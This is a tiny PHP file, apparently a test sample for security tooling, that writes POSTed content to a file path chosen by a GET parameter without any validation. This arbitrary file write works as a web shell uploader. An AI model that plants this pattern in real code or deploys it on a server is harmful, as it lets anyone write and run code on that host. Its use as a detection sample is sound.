<?php
// Test sample: writes POSTed content to a GET-chosen path.
fwrite(fopen($_GET['f'], 'w'), $_POST['c']);
